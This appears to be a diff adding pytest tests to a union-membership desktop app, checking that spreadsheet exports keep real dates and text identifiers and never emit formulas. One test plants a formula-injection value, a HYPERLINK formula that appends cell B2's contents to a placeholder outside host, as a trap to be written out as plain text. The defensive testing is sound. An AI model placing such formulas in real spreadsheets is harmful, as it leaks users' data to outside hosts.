@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+import zipfile
 from datetime import date
 from pathlib import Path
 
@@ -10,6 +12,7 @@ import pytest
 
 from desktop.db import Database
 from desktop.errors import UnionDeskError
+from desktop.services import members
 from desktop.services.member_queries import MemberFilter
 from desktop.spreadsheets import importer
 from desktop.spreadsheets.checking import ImportOptions
@@ -17,7 +20,7 @@ from desktop.spreadsheets.error_report import write_error_report
 from desktop.spreadsheets.export import export_members
 from desktop.spreadsheets.template import write_template
 
-from .helpers import make_id, read_sheet, setup_registry, write_xlsx
+from .helpers import make_id, read_sheet, setup_registry, write_csv, write_xlsx
 
 TODAY = date(2026, 11, 21)
 
@@ -143,3 +146,64 @@ def test_template_round_trip_imports(db: Database, tmp_path: Path) -> None:
     wb.save(path)
     preview = importer.prepare(db, path, ImportOptions(today=TODAY))
     assert preview.counts["new"] == 1 and preview.counts["total"] == 1
+
+
+def test_export_writes_real_date_cells(db: Database, tmp_path: Path) -> None:
+    setup_registry(db)
+    number = make_id(birth="19850315", seq=1)
+    _import(db, tmp_path, [["张三", number, "甲公司工会", "13800138000"]])
+    result = export_members(db, tmp_path / "dates.xlsx", unmasked=True)
+    ws = openpyxl.load_workbook(result.path).active
+    header = [c.value for c in ws[1]]
+    birth = ws.cell(row=2, column=header.index("出生日期") + 1)
+    joined = ws.cell(row=2, column=header.index("入会日期") + 1)
+    assert birth.is_date and birth.number_format == "yyyy-mm-dd"
+    assert birth.value.date() == date(1985, 3, 15)
+    with zipfile.ZipFile(result.path) as zf:
+        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
+    # An Excel serial number (31121 = 1985-03-15) with a style, not a text cell.
+    assert re.search(rf'<c r="{birth.coordinate}" s="\d+" t="n"><v>31121</v></c>', sheet)
+    assert joined.is_date and joined.number_format == "yyyy-mm-dd"
+    assert joined.value.date() == TODAY  # the importer's default 入会日期
+    for label in ("身份证号", "手机号"):  # identifiers stay text, never numbers
+        assert ws.cell(row=2, column=header.index(label) + 1).data_type == "s"
+    assert ws.cell(row=2, column=header.index("所属工会") + 1).number_format == "General"
+
+
+def test_export_never_writes_a_formula(db: Database, tmp_path: Path) -> None:
+    ids = setup_registry(db)
+    trap = '=HYPERLINK("http://example.invalid/?"&B2,"点此核对")'
+    members.add(
+        db,
+        {
+            "name": "张三",
+            "id_number": make_id(seq=3),
+            "union_id": ids["甲公司工会"],
+            "employer": "=1+1",
+            "notes": trap,
+        },
+    )
+    result = export_members(db, tmp_path / "safe.xlsx", unmasked=True)
+    with zipfile.ZipFile(result.path) as zf:
+        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
+    row = dict(zip(read_sheet(result.path)[0], read_sheet(result.path)[1], strict=True))
+    assert row["工作单位"] == "=1+1" and row["备注"] == trap
+    again = importer.prepare(db, result.path, ImportOptions(on_duplicate="update", today=TODAY))
+    assert again.counts["unchanged"] == 1, again.problems
+
+
+def test_error_report_never_writes_a_formula(db: Database, tmp_path: Path) -> None:
+    setup_registry(db)
+    path = write_csv(
+        tmp_path / "r.csv",
+        [
+            ["姓名", "身份证号", "工会", "备注", "=说明"],
+            ["甲", "123", "甲公司工会", "=1+1", "=2+2"],
+        ],
+        "utf-8",
+    )
+    report = write_error_report(importer.prepare(db, path, ImportOptions()), tmp_path / "e.xlsx")
+    with zipfile.ZipFile(report) as zf:
+        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
+    rows = read_sheet(report)
+    assert rows[0][-1] == "=说明" and rows[1][-2:] == ("=1+1", "=2+2")
